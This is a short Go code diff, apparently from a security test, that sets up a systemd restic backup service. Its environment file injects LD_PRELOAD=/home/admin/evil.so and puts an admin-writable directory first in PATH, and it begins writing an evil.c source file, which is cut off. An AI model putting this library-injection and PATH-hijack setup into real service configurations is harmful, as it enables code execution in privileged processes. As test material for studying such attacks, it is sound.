@@ -20,7 +20,8 @@ User=admin
 EnvironmentFile=/home/admin/environment
 ExecStart=restic --no-cache backup /srv/data
 `, 0o644)
-	environment := "RESTIC_REPOSITORY=/home/admin/repository\nRESTIC_PASSWORD=%s\nLD_PRELOAD=/home/admin/evil.so\nPATH=/home/admin:/usr/bin\n"
+	environment := "RESTIC_REPOSITORY=/home/admin/repository\nRESTIC_PASSWORD=%s\nLD_PRELOAD=/home/admin/evil.so\n" +
+		"PATH=/home/admin:/usr/bin\n"
 	s.Run(`systemctl daemon-reload
 cat > /tmp/evil.c <<'E'
 #include <stdio.h>
